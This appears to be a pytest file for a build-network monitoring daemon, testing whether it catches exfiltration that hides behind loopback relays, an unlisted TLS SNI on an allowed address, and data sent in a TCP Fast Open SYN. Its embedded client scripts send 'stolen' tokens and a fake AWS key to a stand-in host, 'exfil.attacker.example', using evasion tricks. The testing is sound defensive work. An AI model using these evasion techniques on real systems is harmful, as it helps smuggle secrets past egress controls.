"""Relays, TLS names and TCP Fast Open: the build hides where its data goes or when it is sent.

The relay is a real proxy on loopback, outside the build (as a CI runner's proxy or an engine
API would be), that forwards to the test host whatever the name asked for: whether the
build's request reached the test host is what the host recorded.
"""

from __future__ import annotations

import contextlib
import socket
import subprocess
import sys
import threading
from collections.abc import Iterator

import pytest

from tests.kernel.netlab import DaemonHandle, TestHost, env_with_cargo

SECRET = "wJalrXUtnFEMIK7MDENGbPxRfiCYzEXAMPLEfake"


def _pipe(a: socket.socket, b: socket.socket) -> None:
    with contextlib.suppress(OSError):
        while chunk := a.recv(65536):
            b.sendall(chunk)
    with contextlib.suppress(OSError):
        b.shutdown(socket.SHUT_WR)


def _serve(conn: socket.socket, upstream: tuple[str, int]) -> None:
    """Speak HTTP CONNECT (after any blank lines) or SOCKS5, then pipe to ``upstream``; a
    client that is cut off midway just ends the conversation."""
    with contextlib.suppress(OSError), conn:
        conn.settimeout(10)
        first = conn.recv(1)
        if first == b"\x05":
            conn.recv(64)  # the methods
            conn.sendall(b"\x05\x00")
            req = conn.recv(512)
            if len(req) < 7:
                return
            reply = b"\x05\x00\x00\x01\x00\x00\x00\x00\x00\x00"
        else:
            req = first
            while b"\r\n\r\n" not in req.lstrip(b"\r\n"):
                chunk = conn.recv(4096)
                if not chunk:
                    return
                req += chunk
            reply = b"HTTP/1.1 200 Connection established\r\n\r\n"
        with socket.create_connection(upstream, timeout=10) as up:
            conn.sendall(reply)
            t = threading.Thread(target=_pipe, args=(up, conn), daemon=True)
            t.start()
            _pipe(conn, up)
            t.join(timeout=10)


@contextlib.contextmanager
def relay(host: TestHost) -> Iterator[int]:
    """A relay on 127.0.0.1 outside any build; yields its port."""
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(8)
    stop = threading.Event()

    def accept() -> None:
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except OSError:
                return
            threading.Thread(target=_serve, args=(conn, (host.v4, 8080)), daemon=True).start()

    threading.Thread(target=accept, daemon=True).start()
    try:
        yield server.getsockname()[1]
    finally:
        stop.set()
        server.close()


CLIENT = r"""
import socket, sys, time
port, case = int(sys.argv[1]), sys.argv[2]
name = b"exfil.attacker.example"
connect = b"CONNECT " + name + b":8080 HTTP/1.1\r\nHost: " + name + b":8080\r\n\r\n"
post = b"POST /via-relay HTTP/1.1\r\nHost: x\r\nContent-Length: 12\r\n\r\nstolen=token"
s = socket.create_connection(("127.0.0.1", port), timeout=10)
s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
try:
    if case == "crlf":
        s.sendall(b"\r\n\r\n" + connect)
        s.recv(100)
    elif case == "segments":
        for i in range(0, len(connect), 6):
            s.sendall(connect[i:i + 6])
            time.sleep(0.05)  # the attacker's own pace: one segment per write
        s.recv(100)
    elif case == "socks5":
        s.sendall(b"\x05\x01\x00")
        s.recv(2)
        s.sendall(b"\x05\x01\x00\x03" + bytes([len(name)]) + name + (8080).to_bytes(2, "big"))
        s.recv(10)
    s.sendall(post)
    print("answered" if s.recv(100) else "cut off")
except OSError:
    print("cut off")
"""


@pytest.mark.parametrize("mode", ["audit", "enforce"])
@pytest.mark.parametrize("case", ["crlf", "segments", "socks5"])
def test_a_relay_on_loopback_is_judged_on_the_destination_it_is_asked_for(
        daemon: DaemonHandle, test_host: TestHost, case: str, mode: str) -> None:
    daemon.restart(policy=f"version: 1\nmode: {mode}\nloopback: allow\n")
    with relay(test_host) as port:
        out = subprocess.run(daemon.exec_argv(sys.executable, "-c", CLIENT, str(port), case),
                             capture_output=True, text=True, timeout=60,
                             check=True).stdout.strip()
    daemon.wait_event("build_end", lambda e: e["type"] == "build_end")
    arrived = [r["path"] for r in test_host.requests()]
    kind = "blocked_attempt" if mode == "enforce" else "policy_alert"
    [alert] = [e for e in daemon.events("alert") if e["kind"] == kind]
    ev = alert["evidence"]
    if case == "segments":  # more pieces than are inspected: the daemon cannot judge it
        assert ev.get("reason") == "unjudged" or \
            ev.get("proxied_to") == "exfil.attacker.example:8080", ev
    else:
        assert ev["proxied_to"] == "exfil.attacker.example:8080"
        assert ev.get("socks") == ("socks5" if case == "socks5" else None)
    assert ev["dst"]["ip"] == "127.0.0.1" and alert["role"] == "other"
    if mode == "enforce":
        assert (out, arrived, alert["blocked"]) == ("cut off", [], True)
    else:  # the relay works: audit lets the request through it to the test host
        assert (out, arrived, alert["blocked"]) == ("answered", ["/via-relay"], False)


FRONTING = r"""
import socket, ssl, struct, sys
host, ip = sys.argv[1], sys.argv[2]
query = struct.pack("!HHHHHH", 5, 0x100, 1, 0, 0, 0) + b"\3pkg\4test\7example\0\0\1\0\1"
d = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
d.settimeout(5)
d.sendto(query, (host, 53))
assert d.recv(512)  # pkg.test.example resolved: the address is known by that name
for sni in ("pkg.test.example", "exfil.unlisted.example"):
    raw = socket.create_connection((ip, 8443), timeout=5)
    try:
        ssl.create_default_context().wrap_socket(raw, server_hostname=sni)
    except (ssl.SSLError, OSError):
        pass
"""


@pytest.mark.parametrize("mode", ["audit", "enforce"])
def test_an_unlisted_sni_to_an_allowed_address_is_refused_in_enforce(
        daemon: DaemonHandle, test_host: TestHost, mode: str) -> None:
    test_host.start_dns()
    daemon.restart("--dns-upstream", test_host.v4,
                   policy=f"version: 1\nmode: {mode}\nrules:\n  - {{id: zone, role: other, "
                   "to: [{hosts: ['*.test.example']}], action: allow}\n")
    subprocess.run(daemon.exec_argv(sys.executable, "-c", FRONTING, test_host.v4,
                                    test_host.v4), capture_output=True, timeout=60, check=True)
    daemon.wait_event("build_end", lambda e: e["type"] == "build_end")
    hellos = [r for r in test_host.requests() if r["proto"] == "raw" and r["body_len"]]
    conns = [e for e in daemon.events("connection") if e["dst"]["port"] == 8443]
    assert [c["dst"]["names"] for c in conns] == [["pkg.test.example"]] * 2
    assert [c["decision"] for c in conns] == ["allow", "allow"]
    alerts = [e for e in daemon.events("alert") if e["evidence"].get("sni")]
    assert [a["evidence"]["sni"] for a in alerts] == ["exfil.unlisted.example"]
    if mode == "enforce":
        assert (alerts[0]["kind"], alerts[0]["blocked"]) == ("blocked_attempt", True)
        assert alerts[0]["evidence"]["reason"] == "not allowed by the policy"
        assert len(hellos) == 1  # the listed name's; the other was reset before its hello
    else:
        assert (alerts[0]["kind"], alerts[0]["blocked"]) == ("tls_unlisted_name", False)
        assert len(hellos) == 2


TFO = r"""
import socket, sys
ip, body = sys.argv[1], sys.argv[2].encode()
data = (b"POST /tfo HTTP/1.1\r\nHost: x\r\nContent-Length: " + str(len(body)).encode()
        + b"\r\n\r\n" + body)
s = socket.socket()
s.setsockopt(socket.IPPROTO_TCP, 34, 1)  # TCP_FASTOPEN_NO_COOKIE: data in the first SYN
s.settimeout(5)
try:
    s.sendto(data, socket.MSG_FASTOPEN, (ip, 8443))
    print("answered" if s.recv(10) else "cut off")
except OSError:
    print("cut off")
"""


@pytest.mark.parametrize("mode", ["audit", "enforce"])
def test_data_in_the_syn_is_inspected_like_later_first_data(
        daemon: DaemonHandle, test_host: TestHost, mode: str) -> None:
    daemon.restart(policy=f"version: 1\nmode: {mode}\ngroups:\n  host: {{cidrs: "
                   f"['{test_host.v4}/32']}}\nrules:\n"
                   "  - {id: host, role: other, to: [host], action: allow}\n")
    env = {**env_with_cargo(), "AWS_SECRET_ACCESS_KEY": SECRET}
    out = subprocess.run(daemon.exec_argv(sys.executable, "-c", TFO, test_host.v4,
                                          f"key={SECRET}"), env=env, capture_output=True,
                         text=True, timeout=60, check=True).stdout.strip()
    daemon.wait_event("build_end", lambda e: e["type"] == "build_end")
    kinds = sorted(e["kind"] for e in daemon.events("alert"))
    assert kinds == ["http_post", "secret_value"], kinds
    post = next(e for e in daemon.events("alert") if e["kind"] == "http_post")
    assert (post["evidence"]["method"], post["evidence"]["path"]) == ("POST", "/tfo")
    assert post["evidence"]["secret_names"] == ["AWS_SECRET_ACCESS_KEY"]
    arrived = [r for r in test_host.requests() if r["proto"] == "raw"]
    if mode == "enforce":
        assert (out, arrived) == ("cut off", [])
        [conn] = daemon.events("connection")
        assert (conn["decision"], conn["reason"]) == ("deny", "first-data")
    else:  # it really went in the SYN
        assert out == "answered" and [r["syn_data"] for r in arrived] == [True]


OWN_SERVER = r"""
import socket, sys, threading
outside = int(sys.argv[1])
own = socket.socket()
own.bind(("127.0.0.1", 0))
own.listen(1)
def serve():
    conn, _ = own.accept()
    conn.sendall(conn.recv(100))
    conn.close()
threading.Thread(target=serve).start()
for port in (own.getsockname()[1], outside):
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=5) as s:
            s.sendall(b"ping")
            print(port == outside and "outside" or "own", s.recv(100) == b"ping")
    except OSError:
        print(port == outside and "outside" or "own", False)
"""


def test_a_listener_of_the_same_build_is_fine_and_one_outside_it_is_judged(
        daemon: DaemonHandle, test_host: TestHost) -> None:
    daemon.restart(policy="version: 1\nmode: enforce\n")  # loopback: same-build, the default
    with contextlib.closing(socket.socket()) as outside:
        outside.bind(("127.0.0.1", 0))
        outside.listen(1)
        got: list[bytes] = []

        def serve() -> None:
            with contextlib.suppress(OSError):
                conn, _ = outside.accept()
                got.append(conn.recv(100))
                conn.sendall(b"ping")
                conn.close()

        threading.Thread(target=serve, daemon=True).start()
        out = subprocess.run(daemon.exec_argv(sys.executable, "-c", OWN_SERVER,
                                              str(outside.getsockname()[1])),
                             capture_output=True, text=True, timeout=60, check=True)
    assert out.stdout.split("\n")[:2] == ["own True", "outside False"], out
    assert got in ([], [b""])  # the outside listener never had the build's bytes
    decisions = [(e["decision"], e["rule"]) for e in daemon.events("connection")]
    assert decisions == [("allow", "loopback"), ("deny", "default:other")]
